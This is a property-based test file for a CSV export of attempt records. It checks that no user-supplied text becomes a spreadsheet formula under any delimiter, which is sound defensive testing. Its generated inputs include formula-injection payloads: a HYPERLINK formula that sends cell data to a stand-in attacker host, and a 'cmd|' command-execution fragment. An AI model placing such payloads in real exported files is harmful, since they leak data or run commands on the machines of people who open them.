/** Files for spreadsheets: no text that a person chose runs as a formula, however the program splits the lines. */
import fc from 'fast-check';
import { parse } from 'papaparse';
import { expect, it } from 'vitest';
import type { AttemptJson } from '../../../src/desk/reports/attempt-json.ts';
import { attemptsFile } from '../../../src/desk/reports/csv.ts';

async function fileWith(message: string): Promise<string> {
  const attempts = [{ id: 'id', occurredAt: '2026-11-21T10:00:00.000Z', message } as unknown as AttemptJson];
  let file = '';
  for await (const piece of attemptsFile(
    async () => ({ attempts, more: false }),
    undefined,
    () => undefined,
  ))
    file += piece;
  return file;
}

/** What programs skip before they decide whether a cell is a formula, and which signs they take for ASCII ones. */
const isFormula = (cell: string) =>
  /^[=+\-@\u2212]/.test(cell.replace(/^[\p{Z}\p{C}\p{Default_Ignorable_Code_Point}"]+/u, '').normalize('NFKC'));

const signs = [...'=+-@＝＋－＠﹦﹢﹣﹫⁼₊−⩵'];
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(...signs, ';', '\n', '\r', '\t', ' ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u202e', '"', ','),
      fc.constantFrom("'", '1+1', 'HYPERLINK("http://evil.example/?"&A1;"click")', 'cmd|', 'é', '李', '\0', '\u2028'),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));
const texts = fc.oneof(
  hostile,
  fc.string({ unit: 'binary' }).map((text) => text.toWellFormed()),
);

it('no cell is a formula in a program that splits at commas, semicolons or tabs, whatever the text', async () => {
  await fc.assert(
    fc.asyncProperty(texts, async (message) => {
      const file = (await fileWith(message)).replace('\ufeff', '');
      const cells = parse<string[]>(file, { delimiter: ',', newline: '\r\n' }).data.flat();
      expect(cells.filter(isFormula)).toEqual([]);
      // Elsewhere a quote within a line does not protect what follows.
      expect(file.split(/[;\t\r\n]/).filter(isFormula)).toEqual([]);
    }),
    { numRuns: 3_000 },
  );
});

it('a cell is the text itself, but for apostrophes before what would be a formula', async () => {
  await fc.assert(
    fc.asyncProperty(texts, async (message) => {
      const file = (await fileWith(message)).replace('\ufeff', '');
      const [header = [], row = []] = parse<string[]>(file, { delimiter: ',', newline: '\r\n' }).data;
      const cell = row[header.indexOf('message')] ?? '';
      expect(cell.replaceAll("'", '')).toBe(message.replaceAll("'", ''));
      if (!/[=+\-@\u2212\t\r\n]/.test(message.normalize('NFKC'))) expect(cell).toBe(message);
    }),
    { numRuns: 1_000 },
  );
});
